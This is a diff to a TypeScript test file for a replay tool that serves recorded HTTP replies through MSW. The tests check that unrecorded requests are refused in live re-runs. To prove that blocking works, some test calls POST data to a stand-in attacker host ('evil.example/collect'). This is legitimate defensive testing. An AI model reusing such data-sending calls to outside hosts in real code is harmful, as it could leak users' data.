@@ -1,8 +1,10 @@
 /**
  * Replay: re-folding a loaded session gives the same state as the live fold at every event; the
  * determinism check agrees with itself and names the first event where an impure fold diverges;
- * recorded replies are matched by method, path template and occurrence, and answer through MSW.
+ * recorded replies are matched by method, path template and occurrence, and answer through MSW; in
+ * a live re-run what they do not answer is refused, never sent (issue 30).
  */
+import { http, HttpResponse } from 'msw';
 import { setupServer } from 'msw/node';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { foldAll, fold } from '../../projections/fold';
@@ -12,6 +14,7 @@ import { checkDeterminism, refold } from '../../devtools/state/replay';
 import { movedTo, replayHandlers, replyMatcher, templatePattern } from '../../devtools/rerun/replay-handlers';
 import { recordedReplies } from '../../devtools/session/scenario-export';
 import { replyGate } from '../../devtools/rerun/reply-gate';
+import { withRefused } from '../../devtools/rerun/rerun-trace';
 import { recordedSession } from './support/recorded';
 
 const events = recordedSession().log.all();
@@ -84,6 +87,67 @@ describe('replay matching', () => {
       expect(failed.status).toBe(402);
       expect(await failed.json()).toMatchObject({ key: 'payment.card_failed' });
       await expect(fetch('https://shop.test/api/cart/items/y/prices')).rejects.toThrow();
+    });
+  });
+
+  describe('in a live re-run, through msw/node (issue 30)', () => {
+    const refused: string[] = [];
+    /** What got past the recording: the mock provider, or the network, would have answered it. */
+    const passedOn: string[] = [];
+    const server = setupServer(
+      ...replayHandlers(replies, undefined, {
+        pageOrigin: 'https://shop.test',
+        providerBases: ['https://shop.test/api', 'https://validation.provider.test/'],
+        refused: (call) => refused.push(call),
+      }),
+      http.all('*', ({ request }) => {
+        passedOn.push(`${request.method} ${request.url}`);
+        return HttpResponse.text('passed on');
+      }),
+    );
+    beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
+    afterAll(() => server.close());
+
+    it('refuses what the recording did not answer, to the provider or any other origin, as a lost connection', async () => {
+      expect((await fetch('https://shop.test/api/cart/items', { method: 'POST', body: '{}' })).status).toBe(
+        200,
+      );
+      await expect(fetch('https://shop.test/api/users', { credentials: 'include' })).rejects.toThrow();
+      await expect(fetch('https://validation.provider.test/vat')).rejects.toThrow();
+      await expect(
+        fetch('https://evil.example/collect?x=1', { method: 'POST', body: 'x' }),
+      ).rejects.toThrow();
+      await expect(fetch('https://evil.example/api/__mock/state')).rejects.toThrow();
+      expect(passedOn).toEqual([]);
+      expect(refused).toEqual([
+        'GET https://shop.test/api/users',
+        'GET https://validation.provider.test/vat',
+        'POST https://evil.example/collect',
+        'GET https://evil.example/api/__mock/state',
+      ]);
+    });
+
+    it("lets the page's own files load", async () => {
+      expect(await (await fetch('https://shop.test/locales/en-US.json')).text()).toBe('passed on');
+      expect(passedOn).toEqual(['GET https://shop.test/locales/en-US.json']);
+    });
+  });
+
+  it('counts a refused call as a difference, whether or not the runs parted already', () => {
+    const outcome = { checkout: 'idle', messages: [] };
+    expect(withRefused({ same: true, outcome }, [])).toEqual({ same: true, outcome });
+    expect(withRefused({ same: true, outcome }, ['GET https://shop.test/api/users'])).toEqual({
+      same: false,
+      recordedSeq: null,
+      liveSeq: null,
+      what: 'GET https://shop.test/api/users: not in the recording, refused',
+      outcome,
+      refused: ['GET https://shop.test/api/users'],
+    });
+    const parted = { same: false as const, recordedSeq: 4, liveSeq: 5, what: 'GET /cart (call 1)', outcome };
+    expect(withRefused(parted, ['GET https://evil.example/x'])).toEqual({
+      ...parted,
+      refused: ['GET https://evil.example/x'],
     });
   });
 
